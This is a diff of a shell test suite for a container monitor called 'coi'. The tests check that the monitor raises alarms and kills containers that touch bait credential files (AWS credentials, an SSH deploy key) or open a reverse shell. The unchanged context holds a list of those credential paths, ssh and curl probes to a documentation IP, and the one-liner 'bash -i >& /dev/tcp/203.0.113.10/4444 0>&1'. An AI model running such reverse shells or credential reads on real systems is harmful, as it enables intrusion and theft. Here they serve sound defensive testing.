@@ -141,7 +141,7 @@ BAITS="/root/.aws/credentials /root/.pypirc /root/.ssh/id_ed25519_deploy /root/.
 	inside c7 sh -c 'command -v ssh >/dev/null && ssh -o BatchMode=yes -o ConnectTimeout=1 203.0.113.10; command -v curl >/dev/null && curl -sm 1 http://203.0.113.10/; command -v python3 >/dev/null && python3 -c "import netrc, os; print(1)"; du -s /root /home; true' || true
 	# The alarm is there: it is the next thing that is done.
 	coi container running c7
-	! has "$A/c7.jsonl" '.title == "Bait taken"'
+	not has "$A/c7.jsonl" '.title == "Bait taken"'
 	read_quietly c7 /home/code/.ssh/id_ed25519_deploy || true
 	within 10 not_running c7
 	gone c7
@@ -198,8 +198,9 @@ cleaned() { # NAME: no supervisor of it is left
 		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >/dev/null 2>&1 || true
 	done
 	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
+	# Three there are before the oldest has gone, too.
+	within 20 not coi container exists "$name"
 	within 10 three
-	! coi container exists "$name"
 	coi clean --force
 	[ "$(coi container list --format json | jq 'length')" = 0 ]
 }
@@ -238,7 +239,7 @@ cleaned() { # NAME: no supervisor of it is left
 	coi list | (! grep "Ended:")
 	gone coi-s1
 	run ! --separate-stderr coi attach coi-s1
-	! grep -q monitoring <<<"$stderr"
+	not grep -q monitoring <<<"$stderr"
 }
 
 # A journal of the test's own, where the host's would be.
@@ -270,7 +271,7 @@ with open(sys.argv[1], "ab", 0) as f:
 	sed -n 's/^COI_RECORD=//p' "$T/journal" | jq -se 'any(.[]; .level == "critical" and .action == "killed")'
 	# What the container runs is in its file, and there alone.
 	has "$A/j1.jsonl" '.type == "exec"'
-	! grep -q '"type":"exec"' "$T/journal"
+	not grep -q '"type":"exec"' "$T/journal"
 	kill "$JOURNAL"
 	gone j1
 	umount /run/systemd
